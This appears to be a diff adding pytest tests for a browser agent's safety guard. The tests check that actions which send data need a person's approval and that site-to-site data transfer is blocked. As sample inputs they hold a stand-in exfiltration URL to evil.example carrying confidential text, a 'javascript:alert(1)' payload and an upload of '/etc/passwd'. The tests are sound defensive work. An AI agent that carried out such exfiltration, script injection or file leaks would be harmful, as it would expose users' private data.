@@ -2,10 +2,12 @@
 
 import asyncio
 from functools import partial
+from itertools import count
+from urllib.parse import quote
 
 import pytest
 
-from studio.domain.action import Action, Click, Navigate
+from studio.domain.action import Action, Click, Fill, Navigate, Upload
 from studio.domain.errors import HandedOver
 from studio.domain.events import ApprovalRequested, Event
 from studio.domain.observation import Observation
@@ -14,7 +16,9 @@ from studio.domain.target import Target
 from studio.engine.agent.acting import Acting
 from studio.engine.agent.ledger import Ledger
 from studio.engine.agent.looking import Looking
-from tests.factories import CART, INTO_CART, SHOP, make_checklist, make_context, make_shop, node
+from studio.engine.ports import RequestKind
+from tests.engine.guard.wire import make_sending_shop
+from tests.factories import CART, INTO_CART, SHOP, make_checklist, make_context, node, text
 from tests.fakes import FakeBrowser, Journal, ScriptedModel
 
 EVIL = "http://evil.example/"
@@ -24,7 +28,7 @@ class Hand:
     """Acting on a shop whose start page is open."""
 
     def __init__(self, *, is_attended: bool = True, approves_all: bool = False) -> None:
-        self.browser: FakeBrowser = make_shop()
+        self.browser = make_sending_shop()
         self.browser.add(EVIL, node("button", "続ける"))
         self.context, self.journal = make_context(
             self.browser, is_attended=is_attended, approves_all=approves_all
@@ -32,6 +36,16 @@ class Hand:
         self.checklist = make_checklist()
         ledger = Ledger(self.context, ScriptedModel(), self.checklist)
         self.acting = Acting(self.context, ledger, Looking(self.context))
+
+    def says(self, instruction: str) -> None:
+        """Let the person's sentence be another one."""
+        self.checklist = self.checklist.model_copy(update={"instruction": instruction})
+        ledger = Ledger(self.context, ScriptedModel(), self.checklist)
+        self.acting = Acting(self.context, ledger, Looking(self.context))
+
+    def target(self, page: Observation, name: str) -> Target:
+        found = next(n for n in page.nodes if n.label == name)
+        return Target(ref=found.ref, epoch=page.epoch, role=found.role, name=name)
 
     async def open(self, url: str = SHOP) -> Observation:
         await self.browser.start()
@@ -231,3 +245,207 @@ async def test_an_act_whose_dialog_a_person_approved_cannot_be_undone() -> None:
     assert (await hand.press(page, "検索")).needs_approval
     hand.browser.on("click", "検索", lambda b: b.show(node("heading", "また")))
     assert not (await hand.press(await hand.browser.observe(), "検索")).needs_approval
+
+
+async def test_what_a_press_sends_is_held_and_marks_its_step() -> None:
+    hand = Hand()
+    hand.browser.add(SHOP, node("button", "保存"))
+    page = await hand.open()
+    hand.answers(is_yes=True)
+
+    async def save(b: FakeBrowser) -> None:
+        assert await hand.browser.send(SHOP + "save")
+        b.show(node("status", "保存しました"))
+
+    hand.browser.on("click", "保存", save)
+    act = await hand.press(page, "保存")
+    assert act.outcome.is_ok
+    assert act.needs_approval
+    assert [request.url for request in hand.browser.sent] == [SHOP + "save"]
+    assert "「保存」をクリック" in asked(hand.journal)[0]
+
+
+async def test_nothing_a_press_sends_leaves_when_nobody_is_there() -> None:
+    hand = Hand(is_attended=False)
+    hand.browser.add(SHOP, node("button", "保存"))
+    page = await hand.open()
+
+    async def save(b: FakeBrowser) -> None:
+        await hand.browser.send(SHOP + "save")
+        b.show(node("status", "終わり"))
+
+    hand.browser.on("click", "保存", save)
+    with pytest.raises(HandedOver, match="保存"):
+        await hand.press(page, "保存")
+    assert hand.browser.sent == []
+
+
+async def test_a_search_sends_without_a_question() -> None:
+    hand = Hand(is_attended=False)
+    page = await hand.open()
+
+    async def search(b: FakeBrowser) -> None:
+        assert await hand.browser.send(SHOP + "results")
+        b.go(SHOP + "search")
+
+    hand.browser.on("click", "検索", search)
+    act = await hand.press(page, "検索")
+    assert act.outcome.is_ok
+    assert not act.needs_approval
+
+
+async def test_the_start_page_may_not_lead_elsewhere_unasked() -> None:
+    hand = Hand(is_attended=False)
+    await hand.browser.start()
+    hand.acting.answer_dialogs()
+    assert not await hand.browser.send(EVIL, "GET", RequestKind.NAVIGATION)
+    with pytest.raises(HandedOver, match="evil"):
+        await hand.open()
+
+
+async def test_sites_of_the_sentence_are_allowed_from_the_beginning() -> None:
+    hand = Hand(is_attended=False)
+    hand.says(f"{SHOP} の本を {EVIL} に書き写して")
+    page = await hand.open()
+    act = await hand.perform(Navigate(url=EVIL), page)
+    assert act.outcome.is_ok
+    assert hand.acting.origins == ("http://shop.example", "http://evil.example")
+
+
+async def test_a_run_that_begins_at_the_open_page_may_be_there_and_nowhere_else() -> None:
+    hand = Hand(is_attended=False)
+    await hand.browser.start()
+    hand.browser.go(SHOP)
+    page = await hand.browser.observe()
+    assert (await hand.press(page, "検索")).outcome.is_ok
+    assert hand.acting.origins == ("http://shop.example",)
+
+
+async def test_a_yes_is_void_when_the_page_changed_while_the_card_was_read() -> None:
+    hand = Hand()
+    amounts = iter(("100円", "9,999円", "9,999円", "9,999円"))
+    page = await hand.open(CART)
+
+    def change(b: FakeBrowser) -> None:
+        b.add(CART, text(f"合計 {next(amounts)}"), node("button", "注文を確定する"))
+
+    change(hand.browser)
+    page = await hand.browser.observe()
+    hand.browser.on_observe = change
+    hand.answers(is_yes=True)
+    await hand.press(page, "注文を確定する")
+    cards = [event.details for event in hand.journal.of(ApprovalRequested)]
+    assert cards == [(("合計", "100円"),), (("合計", "9,999円"),)]
+
+
+async def test_a_page_that_never_stands_still_is_not_acted_on() -> None:
+    hand = Hand()
+    prices = count(100)
+
+    def change(b: FakeBrowser) -> None:
+        b.add(CART, text(f"合計 {next(prices)}円"), node("button", "注文を確定する"))
+
+    change(hand.browser)
+    hand.browser.on_observe = change
+    page = await hand.open(CART)
+    hand.answers(is_yes=True)
+    act = await hand.press(page, "注文を確定する")
+    assert act.outcome.code == "PAGE_CHANGED"
+    assert all(isinstance(action, Navigate) for action in hand.browser.performed)
+
+
+async def test_an_empty_required_field_is_told_before_anything_is_pressed() -> None:
+    hand = Hand()
+    form = node("form", "申請", node("textbox", "氏名 必須"), node("button", "申請する"))
+    hand.browser.add(SHOP, form)
+    page = await hand.open()
+    act = await hand.press(page, "申請する")
+    assert (act.outcome.status, act.outcome.code) == (OutcomeStatus.FAILED, "FORM_INCOMPLETE")
+    assert "氏名" in act.outcome.message
+    assert len(hand.browser.performed) == 1
+    hand.answers(is_yes=True)
+    hand.browser.on("click", "申請する", lambda b: b.show(node("heading", "受け付けました")))
+    assert (await hand.press(await hand.browser.observe(), "申請する")).outcome.is_ok
+
+
+async def test_a_field_filled_in_the_same_decision_counts() -> None:
+    hand = Hand(approves_all=True)
+    form = node("form", "申請", node("textbox", "氏名 必須"), node("button", "申請する"))
+    hand.browser.add(SHOP, form)
+    hand.browser.on("click", "申請する", lambda b: b.show(node("heading", "受け付けました")))
+    page = await hand.open()
+    filled = await hand.acting.perform(
+        Fill(target=hand.target(page, "氏名 必須"), value="花子"), page, is_followed=True
+    )
+    assert (await hand.press(filled.after, "申請する")).outcome.is_ok
+
+
+async def test_the_card_shows_what_was_just_filled() -> None:
+    hand = Hand()
+    hand.browser.add(CART, node("textbox", "届け先"), node("button", "注文を確定する"))
+    page = await hand.open(CART)
+    filled = await hand.acting.perform(
+        Fill(target=hand.target(page, "届け先"), value="東京"), page, is_followed=True
+    )
+    hand.answers(is_yes=False)
+    await hand.press(filled.after, "注文を確定する")
+    assert hand.journal.one(ApprovalRequested).details == (("届け先", "東京"),)
+
+
+SECRETIVE = "社外秘の売上は 1,234,567 円でした"
+
+
+@pytest.mark.parametrize("is_yes", [True, False])
+async def test_text_of_one_site_goes_to_another_only_with_a_yes(is_yes: bool) -> None:
+    hand = Hand()
+    hand.says(f"{SHOP} と {EVIL} を見て")
+    hand.browser.add(SHOP, text(SECRETIVE))
+    hand.browser.add(EVIL, node("textbox", "本文"))
+    page = (await hand.perform(Navigate(url=EVIL), await hand.open())).after
+    hand.answers(is_yes=is_yes)
+    act = await hand.perform(Fill(target=hand.target(page, "本文"), value=SECRETIVE), page)
+    assert act.outcome.is_ok is is_yes
+    assert len(asked(hand.journal)) == 1
+    assert "shop.example で読んだ内容を、evil.example へ送ります" in asked(hand.journal)[0]
+    if is_yes:
+        await hand.perform(Fill(target=hand.target(act.after, "本文"), value=SECRETIVE), act.after)
+        assert len(asked(hand.journal)) == 1
+
+
+async def test_an_address_may_not_carry_what_another_site_said() -> None:
+    hand = Hand(is_attended=False, approves_all=True)
+    hand.says(f"{SHOP} と {EVIL} を見て")
+    hand.browser.add(SHOP, text(SECRETIVE))
+    page = await hand.open()
+    with pytest.raises(HandedOver, match="ほかのサイト"):
+        await hand.perform(Navigate(url=f"{EVIL}?q={quote(SECRETIVE)}"), page)
+
+
+async def test_an_address_that_deletes_is_asked_about_unless_the_person_wrote_it() -> None:
+    url = SHOP + "items/3/delete"
+    hand = Hand(is_attended=False)
+    hand.browser.add(url, node("heading", "削除しました"))
+    with pytest.raises(HandedOver):
+        await hand.perform(Navigate(url=url), await hand.open())
+    own = Hand(is_attended=False)
+    own.browser.add(url, node("heading", "削除しました"))
+    own.says(f"{url} を開いて")
+    assert (await own.perform(Navigate(url=url), await own.open())).outcome.is_ok
+
+
+@pytest.mark.parametrize("value", ["javascript:alert(1)", "x" * 2_001])
+async def test_a_value_nobody_needs_is_not_typed(value: str) -> None:
+    hand = Hand()
+    page = await hand.open()
+    act = await hand.perform(Fill(target=hand.target(page, "商品検索"), value=value), page)
+    assert act.outcome.code == "PARAMETER_REFUSED"
+    assert len(hand.browser.performed) == 1
+
+
+async def test_a_file_nobody_named_is_not_given_away() -> None:
+    hand = Hand()
+    hand.browser.add(SHOP, node("button", "ファイルを選択"))
+    page = await hand.open()
+    upload = Upload(target=hand.target(page, "ファイルを選択"), paths=("/etc/passwd",))
+    assert (await hand.perform(upload, page)).outcome.code == "FILE_NOT_GIVEN"
+    assert len(hand.browser.performed) == 1
